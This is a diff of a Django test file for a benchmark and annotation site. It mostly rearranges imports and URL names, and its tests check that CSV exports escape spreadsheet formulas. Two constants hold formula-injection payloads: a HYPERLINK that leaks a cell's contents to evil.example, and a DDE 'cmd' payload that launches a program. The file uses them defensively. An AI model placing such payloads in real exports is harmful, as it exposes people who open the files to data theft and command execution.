@@ -13,11 +13,11 @@ import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
+from annotation.exports import write_export
 from annotation.models import Campaign, Label
-from annotation.review import write_export
 from annotation.services import adjudicate
 from benchmark import exports
-from benchmark.importers import import_medes_questions
+from benchmark.importers.medes_questions import import_medes_questions
 from benchmark.models import Release, ScenarioStatus
 from benchmark.releases import medes_csv, publish_release, release_items
 from benchmark.scenarios import create_scenario
@@ -26,7 +26,7 @@ from medes_site import jobs
 from medes_site.models import Job, JobStatus
 from medes_site.spreadsheet import safe_cell
 from tests import campaign_data
-from tests.conftest import Personas
+from tests.factories import Personas
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
 LABEL_FORMULAS = ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r@SUM(A1)")
@@ -95,7 +95,7 @@ def test_the_export_page_job_and_command_write_the_escaped_csv(
     campaign: Campaign, personas: Personas, client_as: Any, tmp_path: Path
 ) -> None:
     client = client_as(personas.ml_engineer)
-    page = client.get(reverse("campaigns:export", args=[campaign.pk]), {"what": "accepted", "format": "csv"})
+    page = client.get(reverse("annotation:campaign_export", args=[campaign.pk]), {"what": "accepted", "format": "csv"})
     body = page.content.decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(body)))
     assert [row["rationale"] for row in rows] == ["'" + FORMULA]
@@ -177,7 +177,7 @@ def test_the_export_command_writes_the_spreadsheet_csv(hostile_release: Release,
 
 def test_the_imported_medes_sample_exports_the_same_csv_as_before(db: None) -> None:
     """The MedES CSV of the published sample is unchanged by the escaping (none of its cells needs it)."""
-    from tests.test_scenarios import medes
+    from tests.factories import medes
 
     import_medes_questions(
         medes("objective_questions.csv"), origin_name="o.csv", dry_run=False, status=ScenarioStatus.ACCEPTED
